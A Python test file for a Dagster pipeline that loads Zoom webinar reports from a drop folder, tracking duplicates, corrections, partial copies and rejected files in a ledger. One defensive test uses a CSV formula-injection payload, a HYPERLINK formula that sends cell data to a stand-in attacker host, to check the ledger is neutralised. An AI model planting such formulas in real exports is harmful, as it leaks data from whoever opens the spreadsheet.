"""The local drop folder end to end through Dagster: the assets, the ledger, the folders, the sensor."""

from __future__ import annotations

import os
from pathlib import Path

import dagster as dg
import pandas as pd

from funnel_assets.defs.events.assets import bootcamp_attendance, zoom_reports
from funnel_assets.defs.events.sensors import zoom_drop_sensor
from funnel_assets.io.drop_folders import LocalDropFolder
from funnel_assets.io.drop_folders import base as drop_folder_base
from funnel_assets.io.mappings import Mappings
from funnel_assets.io.warehouse import Warehouse
from funnel_assets.settings import PROJECT_ROOT
from funnel_assets_tests.support.drop_folders import drop, local_drop_folder, parsed_dir
from funnel_assets_tests.support.resources import io_manager_for
from funnel_assets_tests.support.zoom_files import ASHA, RAVI, START, attendee_report, registration_report

JOINED = [("Nov 3, 2025 07:01 PM", "Nov 3, 2025 07:30 PM", 29), ("Nov 3, 2025 07:35 PM", "Nov 3, 2025 08:30 PM", 55)]


def run(
    drop_dir: Path,
    warehouse: Warehouse,
    zoom_drop: LocalDropFolder | None = None,
    instance: dg.DagsterInstance | None = None,
) -> dg.ExecuteInProcessResult:
    result = dg.materialize(
        [zoom_reports, bootcamp_attendance],
        resources={
            # the step's two looks at the folder need no pause where nothing is being copied
            "zoom_drop": zoom_drop or local_drop_folder(drop_dir, settle_seconds=0),
            "mappings": Mappings(directory=str(PROJECT_ROOT / "mappings")),
            "io_manager": io_manager_for(warehouse),
        },
        instance=instance,
    )
    assert result.success
    return result


def run_log(drop_dir: Path, warehouse: Warehouse) -> str:
    """A run's log as the UI shows it."""
    with dg.instance_for_test() as instance:
        result = run(drop_dir, warehouse, instance=instance)
        return "\n".join(entry.user_message for entry in instance.all_logs(result.run_id))


def metadata(result: dg.ExecuteInProcessResult, asset: str) -> dict:
    event = next(e for e in result.get_asset_materialization_events() if e.asset_key.to_user_string() == asset)
    return {k: v.value for k, v in event.materialization.metadata.items()}


def test_good_files_load_bad_ones_are_set_aside_with_a_reason(tmp_path, warehouse: Warehouse):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA, RAVI]))
    drop(
        drop_dir,
        "att.csv",
        "\ufeff" + attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, RAVI]),
    )
    drop(drop_dir, "leads_export.csv", "Name,Email,Phone\nAsha,a@x.com,98765\n")
    drop(drop_dir, "empty.csv", "")
    truncated = attendee_report("CFA Talk", "845 1111 2222", START, [{**ASHA, "joins": JOINED}])
    drop(drop_dir, "cut.csv", truncated[: truncated.index("Yes,Asha") + 30])

    result = run(drop_dir, warehouse)

    people = warehouse.read_table("event_participants")
    assert len(people) == 2
    asha = people[people["phone"].eq("9876543210")].iloc[0]
    assert bool(asha["registered"]) and bool(asha["attended"]) and asha["minutes_in_session"] == 84
    assert asha["join_count"] == 2 and asha["category"] == "ACCA" and asha["conductor"] == "Rahul Sharma"

    ledger = warehouse.read_table("ingested_files").set_index("file_name")
    assert ledger["status"].to_dict() == {
        "reg.csv": "loaded",
        "att.csv": "loaded",
        "leads_export.csv": "rejected",
        "empty.csv": "rejected",
        "cut.csv": "rejected",
    }
    assert (
        ledger.loc["att.csv", "report_type"] == "webinar_attendee"
        and ledger.loc["att.csv", "event_id"] == "81234567890"
    )
    assert "not a Zoom" in ledger.loc["leads_export.csv", "error"] and "cut short" in ledger.loc["cut.csv", "error"]

    assert sorted(p.name for p in drop_dir.glob("*.csv")) == []
    assert len(list((drop_dir / "processed").glob("*.csv"))) == 2
    reasons = {p.name.split("__", 1)[1]: p.read_text() for p in (drop_dir / "rejected").glob("*.reason.txt")}
    assert set(reasons) == {"leads_export.csv.reason.txt", "empty.csv.reason.txt", "cut.csv.reason.txt"}
    assert (
        "is empty" in reasons["empty.csv.reason.txt"]
        and "download the report from Zoom again" in reasons["empty.csv.reason.txt"]
    )

    facts = metadata(result, "ingested_files")
    assert (facts["files_loaded_this_run"], facts["files_rejected_this_run"]) == (2, 3)
    assert metadata(result, "event_participants")["attendees"] == 1


def test_same_content_again_is_a_duplicate_and_a_correction_replaces_the_earlier_report(tmp_path, sqlite_warehouse):
    drop_dir = tmp_path / "zoom_drop"
    original = attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}])
    drop(drop_dir, "att.csv", original)
    run(drop_dir, sqlite_warehouse)
    first = sqlite_warehouse.read_table("event_participants")

    drop(drop_dir, "att (1).csv", original)  # downloaded twice
    result = run(drop_dir, sqlite_warehouse)
    assert metadata(result, "ingested_files")["files_duplicate_this_run"] == 1
    pd.testing.assert_frame_equal(sqlite_warehouse.read_table("event_participants"), first)

    corrected = attendee_report(
        "ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, {**RAVI, "joins": JOINED[:1]}]
    )
    drop(drop_dir, "att.csv", corrected)
    run(drop_dir, sqlite_warehouse)
    people = sqlite_warehouse.read_table("event_participants")
    assert sorted(people["email"]) == ["asha@x.com", "ravi@x.com"], "the corrected report, not both"
    assert people["minutes_in_session"].tolist() == [84.0, 29.0]
    statuses = sqlite_warehouse.read_table("ingested_files")["status"].tolist()
    assert statuses == ["replaced", "duplicate", "loaded"]


def grow(path: Path, more: bytes) -> None:
    """A copy tool writing on, keeping the original's modification time (as Windows Explorer and `cp -p` do)."""
    kept = path.stat().st_mtime_ns
    with path.open("ab") as handle:
        handle.write(more)
    os.utime(path, ns=(kept, kept))


WHOLE = attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, RAVI]).encode()
FIRST_PART = WHOLE[: WHOLE.index(b"Yes,Asha")]  # the copy so far: up to the people, cut at a line boundary


class CopyStillRunning(LocalDropFolder):
    """The drop folder while a report is still being copied into it: it grows between the step's two looks."""

    def pause_between_looks(self, seconds: float) -> None:
        grow(self.path / "att.csv", WHOLE[len(FIRST_PART) :])


def test_a_file_still_being_copied_waits_however_old_its_modification_time(tmp_path, sqlite_warehouse):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "att.csv", FIRST_PART, age_seconds=3600)  # an hour old by its time, still growing
    result = run(
        drop_dir,
        sqlite_warehouse,
        CopyStillRunning(directory=str(drop_dir), parsed_directory=str(parsed_dir()), settle_seconds=0),
    )
    assert (drop_dir / "att.csv").read_bytes() == WHOLE, "left where it is, untouched"
    assert metadata(result, "ingested_files")["files_still_arriving"] == 1
    assert sqlite_warehouse.row_count("event_participants") == 0 and sqlite_warehouse.row_count("ingested_files") == 0

    run(drop_dir, sqlite_warehouse)  # the copy has finished: the next run reads the whole file
    assert not (drop_dir / "att.csv").exists()
    assert sqlite_warehouse.read_table("ingested_files")["status"].tolist() == ["loaded"]
    assert sqlite_warehouse.row_count("event_participants") == 2


class FakeClock:
    """The drop folder's clock: time moves only when the test says, and a pause is noted, not slept."""

    def __init__(self) -> None:
        self.now, self.pauses = 100.0, []

    def monotonic(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.pauses.append(seconds)
        self.now += seconds


def test_work_begun_on_the_first_look_counts_towards_the_pause_and_only_the_second_look_decides(tmp_path, monkeypatch):
    clock = FakeClock()
    monkeypatch.setattr(drop_folder_base, "time", clock)
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]))
    drop(drop_dir, "att.csv", FIRST_PART)
    folder = local_drop_folder(drop_dir, settle_seconds=2)
    seen = []

    def parsing_meanwhile(paths: list[Path]) -> None:
        seen.extend(p.name for p in paths)
        clock.now += 0.75  # the parsing took this long
        grow(drop_dir / "att.csv", WHOLE[len(FIRST_PART) :])  # and a copy went on meanwhile

    assert [p.name for p in folder.waiting_files(meanwhile=parsing_meanwhile)] == ["reg.csv"]
    assert sorted(seen) == ["att.csv", "reg.csv"]
    assert clock.pauses == [1.25], "the two looks stay two seconds apart, the parsing's time included"

    def slow(paths: list[Path]) -> None:
        clock.now += 5

    assert sorted(p.name for p in folder.waiting_files(meanwhile=slow)) == ["att.csv", "reg.csv"], "copied in full now"
    assert clock.pauses[-1] == 0, "no pause once the work took longer than it"


class CopyFinishesDuringTheRun(LocalDropFolder):
    """The drop folder where the rest of a report arrives after the step has read it (and before it lets it go)."""

    def write_ledger(self, ledger: pd.DataFrame) -> None:
        super().write_ledger(ledger)
        grow(self.path / "att.csv", WHOLE[len(FIRST_PART) :])


def test_a_file_that_changed_after_it_was_read_is_left_for_the_next_run(tmp_path, sqlite_warehouse):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "att.csv", FIRST_PART)
    run(
        drop_dir,
        sqlite_warehouse,
        CopyFinishesDuringTheRun(directory=str(drop_dir), parsed_directory=str(parsed_dir()), settle_seconds=0),
    )
    # what was read was cut short and is recorded so; the file, which has changed since, is not moved to rejected/
    first = sqlite_warehouse.read_table("ingested_files")
    assert first["status"].tolist() == ["rejected"] and "cut short" in first["error"].iloc[0]
    assert (drop_dir / "att.csv").read_bytes() == WHOLE
    assert not list((drop_dir / "rejected").glob("*att.csv*"))

    run(drop_dir, sqlite_warehouse)  # judged again, whole this time
    assert sqlite_warehouse.read_table("ingested_files")["status"].tolist() == ["rejected", "loaded"]
    assert not (drop_dir / "att.csv").exists() and sqlite_warehouse.row_count("event_participants") == 2


class ResavedDuringTheRun(LocalDropFolder):
    """The ops person saves a corrected report under the same name while the step is loading the first one."""

    def write_ledger(self, ledger: pd.DataFrame) -> None:
        super().write_ledger(ledger)
        ravi_came = {**RAVI, "joins": JOINED[:1]}
        drop(
            self.path,
            "att.csv",
            attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, ravi_came]),
        )


def test_a_loaded_file_resaved_during_the_run_is_not_removed(tmp_path, sqlite_warehouse):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "att.csv", WHOLE)
    run(
        drop_dir,
        sqlite_warehouse,
        ResavedDuringTheRun(directory=str(drop_dir), parsed_directory=str(parsed_dir()), settle_seconds=0),
    )
    assert (drop_dir / "att.csv").exists(), "the correction is still there"
    run(drop_dir, sqlite_warehouse)
    assert not (drop_dir / "att.csv").exists()
    assert sqlite_warehouse.read_table("ingested_files")["status"].tolist() == ["replaced", "loaded"]
    assert sqlite_warehouse.read_table("event_participants")["attended"].tolist() == [True, True]


def sensor_tick(drop_dir: Path, cursor: str | None = None):
    with dg.instance_for_test() as instance:
        context = dg.build_sensor_context(
            instance=instance, cursor=cursor, resources={"zoom_drop": local_drop_folder(drop_dir)}
        )
        return zoom_drop_sensor(context)


def test_sensor_starts_one_run_per_new_or_changed_set_of_files(tmp_path):
    drop_dir = tmp_path / "zoom_drop"
    empty = sensor_tick(drop_dir)
    assert not empty.run_requests and "no Zoom files" in empty.skip_reason.skip_message

    # an hour old by its modification time, yet still being copied: age proves nothing, two alike looks do
    drop(drop_dir, "att.csv", FIRST_PART, age_seconds=3600)
    first_look = sensor_tick(drop_dir)
    assert not first_look.run_requests and "still arriving" in first_look.skip_reason.skip_message
    grow(drop_dir / "att.csv", WHOLE[len(FIRST_PART) :])
    grown = sensor_tick(drop_dir, cursor=first_look.cursor)
    assert not grown.run_requests and "still arriving" in grown.skip_reason.skip_message

    first = sensor_tick(drop_dir, cursor=grown.cursor)  # unchanged since the last tick: ready
    assert len(first.run_requests) == 1 and first.run_requests[0].job_name in (None, "zoom_ingest")
    again = sensor_tick(drop_dir, cursor=first.cursor)
    assert not again.run_requests, "the same files never start a second run"

    drop(drop_dir, "reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]))
    seen = sensor_tick(drop_dir, cursor=again.cursor)
    assert not seen.run_requests, "a new file is looked at twice too"
    changed = sensor_tick(drop_dir, cursor=seen.cursor)
    assert len(changed.run_requests) == 1 and changed.run_requests[0].run_key != first.run_requests[0].run_key


def test_sensor_reads_a_cursor_written_before_looks_were_kept(tmp_path):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "att.csv", WHOLE)
    old_cursor = "0123456789abcdef01234567"  # the fingerprint alone
    first_look = sensor_tick(drop_dir, cursor=old_cursor)
    assert not first_look.run_requests
    assert len(sensor_tick(drop_dir, cursor=first_look.cursor).run_requests) == 1


def registrants(count: int) -> list[dict]:
    return [
        {
            "first": f"P{i}",
            "last": "R",
            "email": f"p{i}@x.com",
            "phone": f"98765{i:05d}",
            "registered": "Oct 30, 2025 10:02 AM",
        }
        for i in range(count)
    ]


EARLIER = registration_report(
    "ACCA Masterclass", "812 3456 7890", START, registrants(28), generated="Nov 3, 2025 09:15 PM"
)
CORRECTION = registration_report(
    "ACCA Masterclass", "812 3456 7890", START, registrants(30), generated="Nov 4, 2025 10:40 AM"
)


def test_a_browser_renamed_correction_dropped_with_the_earlier_report_wins_by_zooms_generated_time(
    tmp_path, sqlite_warehouse
):
    drop_dir = tmp_path / "zoom_drop"
    # the correction is older on disk and sorts first by name: neither may decide
    drop(drop_dir, "reg (1).csv", CORRECTION, age_seconds=600)
    drop(drop_dir, "reg.csv", EARLIER, age_seconds=300)
    run(drop_dir, sqlite_warehouse)

    assert sqlite_warehouse.row_count("event_participants") == 30, (
        "the two registrants only the correction has are kept"
    )
    ledger = sqlite_warehouse.read_table("ingested_files").set_index("file_name")
    assert ledger["status"].to_dict() == {"reg (1).csv": "loaded", "reg.csv": "replaced"}
    assert "reg (1).csv" in ledger.loc["reg.csv", "error"], "the replaced file names the one that replaced it"


def test_a_correction_dropped_before_the_earlier_report_still_wins(tmp_path, sqlite_warehouse):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, "correction.csv", CORRECTION)
    run(drop_dir, sqlite_warehouse)
    drop(drop_dir, "reg.csv", EARLIER)  # the older download, dropped a day later
    run(drop_dir, sqlite_warehouse)

    assert sqlite_warehouse.row_count("event_participants") == 30
    ledger = sqlite_warehouse.read_table("ingested_files")
    assert ledger["status"].tolist() == ["loaded", "replaced"]
    assert "correction.csv" in ledger["error"].iloc[1] and pd.isna(ledger["error"].iloc[0])


def test_a_meeting_report_cut_at_a_line_end_is_loaded_with_a_note_that_its_count_could_not_be_checked(
    tmp_path, sqlite_warehouse
):
    drop_dir = tmp_path / "zoom_drop"
    lines = (
        (PROJECT_ROOT / "sample_data" / "zoom" / "83300045678_participants_2025-11-06.csv")
        .read_bytes()
        .splitlines(keepends=True)
    )
    drop(drop_dir, "bootcamp.csv", b"".join(lines[:8]))  # the summary, the header and 4 participants of 10
    drop(drop_dir, "reg.csv", EARLIER)
    run(drop_dir, sqlite_warehouse)

    ledger = sqlite_warehouse.read_table("ingested_files").set_index("file_name")
    assert ledger["status"].to_dict() == {"bootcamp.csv": "loaded", "reg.csv": "loaded"}
    note = ledger.loc["bootcamp.csv", "error"]
    assert "could not be checked" in note and "meeting participants report" in note
    assert pd.isna(ledger.loc["reg.csv", "error"]), "a report its own counts vouch for has no note"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_the_ledger_on_the_share_holds_no_live_formula_and_reads_back_as_written(tmp_path, sqlite_warehouse):
    import csv

    drop_dir = tmp_path / "zoom_drop"
    report = registration_report(FORMULA, "812 3456 7890", START, [ASHA])
    drop(drop_dir, "=HYPERLINK(1).csv", report, age_seconds=300)
    drop(
        drop_dir, "'-quoted already.csv", "not a report", age_seconds=200
    )  # its own apostrophe survives the round trip
    drop(drop_dir, "+1 leads.csv", "", age_seconds=100)
    run(drop_dir, sqlite_warehouse)

    with (drop_dir / "ledger" / "ingested_files.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"

    drop(drop_dir, "again.csv", report)  # the ledger is the archive's index: read back, it knows this content
    run(drop_dir, sqlite_warehouse)
    ledger = sqlite_warehouse.read_table("ingested_files")
    assert ledger["file_name"].tolist() == ["=HYPERLINK(1).csv", "'-quoted already.csv", "+1 leads.csv", "again.csv"]
    assert ledger["status"].tolist() == ["loaded", "rejected", "rejected", "duplicate"]
    assert ledger["event_name"].iloc[0] == FORMULA
    assert ledger["error"].iloc[2].startswith("+1 leads.csv: the file is empty")


LONG_REPORT = "ACCA Masterclass registration report " + "a" * 209 + ".csv"  # 250 bytes
LONG_JUNK = "é" * 123 + ".csv"  # 250 bytes in UTF-8


def test_a_250_byte_file_name_is_loaded_or_set_aside_under_a_shortened_name_and_the_ledger_keeps_the_original(
    tmp_path, sqlite_warehouse
):
    drop_dir = tmp_path / "zoom_drop"
    assert len(LONG_REPORT.encode()) == 250 and len(LONG_JUNK.encode()) == 250
    drop(
        drop_dir, LONG_REPORT, registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]), age_seconds=200
    )
    drop(drop_dir, LONG_JUNK, "Name,Email\nAsha,a@x.com\n", age_seconds=100)
    run(drop_dir, sqlite_warehouse)
    run(drop_dir, sqlite_warehouse)  # and the next run reads the archive back

    ledger = sqlite_warehouse.read_table("ingested_files")
    assert ledger["file_name"].tolist() == [LONG_REPORT, LONG_JUNK] and ledger["status"].tolist() == [
        "loaded",
        "rejected",
    ]
    assert sqlite_warehouse.read_table("event_participants")["source_file"].tolist() == [LONG_REPORT]
    assert not list(drop_dir.glob("*.csv"))
    written = [*(drop_dir / "processed").iterdir(), *(drop_dir / "rejected").iterdir()]
    assert len(written) == 3 and all(len(p.name.encode()) <= 255 for p in written)


APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + b"\x00" * 40
OFFICE_LOCK = b"\x05asha " + b" " * 48 + b"\x05\x00a\x00s\x00h\x00a\x00" + b"\x00" * 90


def test_hidden_files_are_judged_like_any_other_and_system_sidecar_files_are_ignored_quietly(
    tmp_path, sqlite_warehouse
):
    drop_dir = tmp_path / "zoom_drop"
    drop(drop_dir, ".reg.csv", registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA]), age_seconds=200)
    drop(drop_dir, ".notes.csv", "my notes, not a report\n", age_seconds=100)
    drop(drop_dir, "._reg.csv", APPLE_DOUBLE)  # macOS's sidecar of a file copied from a Mac
    drop(drop_dir, "~$reg.csv", OFFICE_LOCK)  # Excel's lock file while someone has reg.csv open
    first = sensor_tick(drop_dir)
    assert len(sensor_tick(drop_dir, cursor=first.cursor).run_requests) == 1

    logged = run_log(drop_dir, sqlite_warehouse)
    ledger = sqlite_warehouse.read_table("ingested_files")
    assert ledger["file_name"].tolist() == [".reg.csv", ".notes.csv"] and ledger["status"].tolist() == [
        "loaded",
        "rejected",
    ]
    assert sqlite_warehouse.row_count("event_participants") == 1
    assert ".reg.csv: its name starts with '.'" in logged
    assert sorted(p.name for p in drop_dir.glob("*.csv")) == ["._reg.csv", "~$reg.csv"], "left alone"

    only_sidecars = sensor_tick(drop_dir)
    assert not sensor_tick(drop_dir, cursor=only_sidecars.cursor).run_requests


def test_a_report_is_parsed_once_and_later_runs_reuse_its_parsed_rows(tmp_path, sqlite_warehouse, monkeypatch):
    from funnel_assets.lib import zoom_ingest
    from funnel_assets.lib.zoom_reports import parse_zoom_report

    parsed: list[str] = []

    def counting(content: bytes, file_name: str):
        parsed.append(file_name)
        return parse_zoom_report(content, file_name=file_name)

    monkeypatch.setattr(zoom_ingest, "parse_zoom_report", counting)
    drop_dir = tmp_path / "zoom_drop"
    drop(
        drop_dir,
        "reg.csv",
        registration_report("ACCA Masterclass", "812 3456 7890", START, [ASHA, RAVI]),
        age_seconds=200,
    )
    drop(
        drop_dir,
        "att.csv",
        attendee_report("ACCA Masterclass", "812 3456 7890", START, [{**ASHA, "joins": JOINED}, RAVI]),
    )
    run(drop_dir, sqlite_warehouse)
    assert sorted(parsed) == ["att.csv", "reg.csv"]
    first = sqlite_warehouse.read_table("event_participants")

    run(drop_dir, sqlite_warehouse)
    assert sorted(parsed) == ["att.csv", "reg.csv"], "the archived reports are not parsed again"
    pd.testing.assert_frame_equal(sqlite_warehouse.read_table("event_participants"), first)

    kept = sorted(parsed_dir().glob("*.arrow"))
    assert len(kept) == 2
    kept[0].write_bytes(kept[0].read_bytes()[:100])  # damaged (a disk filled up, a copy tool cut it)
    run(drop_dir, sqlite_warehouse)
    assert len(parsed) == 3, "a damaged entry is simply parsed again"
    pd.testing.assert_frame_equal(sqlite_warehouse.read_table("event_participants"), first)
    run(drop_dir, sqlite_warehouse)
    assert len(parsed) == 3, "and kept anew"
